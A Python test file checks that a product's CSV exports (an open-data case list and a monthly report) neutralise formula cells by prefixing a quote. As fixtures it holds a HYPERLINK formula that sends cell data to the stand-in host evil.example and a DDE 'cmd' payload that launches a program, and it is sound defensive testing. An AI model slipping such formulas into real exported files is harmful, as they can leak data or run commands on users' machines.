"""Every CSV the product writes neutralises formula cells."""

from __future__ import annotations

import csv
import io

from wadul import testing
from wadul.core.csvsafe import safe_cell


def _rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_formula_cells_of_the_open_data_csv_are_text(client, unit_a):
    for start in ("=", "+", "-", "@"):
        testing.create_case(
            unit=unit_a, text=f'{start}HYPERLINK("http://evil.example/?"&A1;"klik")'
        )
    rows = _rows(client.get("/data/kasus.csv"))
    assert len(rows) == 4
    for row in rows:
        assert row["subject"].startswith("'") and row["description"].startswith("'")


def test_the_monthly_report_csv_uses_the_same_writer(client, supervisor, unit_a):
    unit_a.name = "=cmd|' /C calc'!A0"
    unit_a.save()
    testing.create_case(unit=unit_a)
    testing.login(client, supervisor)
    rows = _rows(client.get("/pantau/laporan.csv"))
    names = [r["unit_name"] for r in rows if "cmd" in r["unit_name"]]
    assert names and all(n.startswith("'=") for n in names)


def test_numbers_and_plain_text_are_left_alone():
    assert safe_cell(-8.2) == -8.2 and safe_cell("Jalan") == "Jalan" and safe_cell(None) is None
    assert safe_cell("\t=1") == "'\t=1"
